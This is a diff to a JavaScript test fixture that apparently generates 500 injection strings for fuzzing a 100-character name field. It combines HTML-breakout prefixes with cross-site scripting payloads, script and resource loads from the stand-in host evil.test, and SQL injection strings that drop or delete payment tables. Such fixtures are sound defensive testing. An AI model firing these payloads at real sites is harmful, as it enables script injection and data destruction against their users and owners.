@@ -1,7 +1,8 @@
 // @ts-check
 // Texts that try to become markup, scripts, addresses or templates. Each fits into a name of 100 letters.
 
-export const PAYLOADS = [
+/** Each of a kind of its own. */
+const KINDS = [
   // tags
   '<script>alert(1)</script>',
   '<ScRiPt src=//evil.test/x.js></sCrIpT>',
@@ -78,3 +79,20 @@ export const PAYLOADS = [
   "'; drop table merchants; --",
   "Robert'); delete from payment_links where ('1'='1",
 ];
+
+/** Ways out of where a text may stand: between tags, in an attribute, in a script, in a comment. */
+const WAYS_OUT = [
+  '', '">', "'>", '"/>', '`>', '" >', '</p>', '</a>', '</td></tr></table>', '</h1>', '</textarea>', '</title>', '</option></select>', '</script>', '</style>',
+  '</iframe>', '</template>', '</svg>', '-->', ']]>', '\\">', '\\x3e', '&quot;>', '"/ / >', '<',
+];
+
+/** Ways to be run once out. */
+const WAYS_IN = [
+  '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '<script>alert(1)</script>', '<a href="javascript:alert(1)">x</a>', '<iframe srcdoc="<script>alert(1)</script>">',
+  '<details open ontoggle=alert(1)>', '<input autofocus onfocus=alert(1)>', '<style>@import"//evil.test"</style>', '<base href=//evil.test>', '<form action=//evil.test><button>x',
+  '<video src=x onerror=alert(1)>', '<math href=javascript:alert(1)>x', '<object data=//evil.test>', '<embed src=//evil.test>', '<link rel=stylesheet href=//evil.test>',
+  '<meta http-equiv=refresh content=0;//evil.test>', '<b onpointerenter=alert(1)>x', '<x-x style=animation-name:x onanimationstart=alert(1)>',
+];
+
+/** Five hundred texts, none twice. */
+export const PAYLOADS = [...new Set([...KINDS, ...WAYS_OUT.flatMap((out) => WAYS_IN.map((way) => `${out}${way}`))])].slice(0, 500);
